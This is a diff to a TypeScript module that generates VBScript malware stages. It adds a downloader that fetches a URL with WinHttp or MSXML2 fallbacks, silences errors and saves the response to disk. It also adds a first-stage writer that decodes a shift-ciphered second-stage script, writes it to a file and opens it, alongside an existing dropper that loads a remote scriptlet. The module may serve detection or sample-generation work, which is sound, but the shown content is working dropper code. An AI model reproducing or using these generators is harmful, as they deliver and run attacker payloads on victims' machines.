@@ -242,3 +242,48 @@ export function scriptControlDropper(jscript: string, scriptletUrl: string): str
     `Set o = GetObject("script:${scriptletUrl}")`,
   ].join('\r\n');
 }
+
+/**
+ * A downloader written defensively, as tools and droppers copy it: fallback ProgIDs tested with Is Nothing,
+ * Err checks, and early Exit Function paths that clear the request object.
+ */
+export function fallbackDownloader(opts: { url: string; path: string }): string {
+  return [
+    'On Error Resume Next',
+    `Fetch ${literal(opts.url)}, ${literal(opts.path)}`,
+    'Function Fetch(address, where)',
+    '  Dim web, body',
+    '  Set web = Nothing',
+    '  Set web = CreateObject("WinHttp.WinHttpRequest.5.1")',
+    '  If web Is Nothing Then Set web = CreateObject("MSXML2.ServerXMLHTTP")',
+    '  web.Open "GET", address, False',
+    '  web.Send',
+    '  If Err.Number <> 0 Then',
+    '    Set web = Nothing',
+    '    Exit Function',
+    '  End If',
+    '  If web.Status <> 200 Then',
+    '    Set web = Nothing',
+    '    Fetch = False',
+    '    Exit Function',
+    '  End If',
+    '  body = web.ResponseBody',
+    '  With CreateObject("ADODB.Stream")',
+    '    .Type = 1 : .Open : .Write body : .SaveToFile where, 2 : .Close',
+    '  End With',
+    '  Fetch = True',
+    'End Function',
+  ].join('\r\n');
+}
+
+/** A first stage that decodes a second-stage script, writes it next to itself and opens it. */
+export function scriptWriter(secondStage: string, path: string): string {
+  const { fn, call } = shiftCipher(secondStage, 2, 'Decode');
+  return [
+    fn,
+    `Set f = CreateObject("Scripting.FileSystemObject").CreateTextFile(${literal(path)}, True)`,
+    `f.Write ${call}`,
+    'f.Close',
+    `CreateObject("Shell.Application").Open ${literal(path)}`,
+  ].join('\r\n');
+}
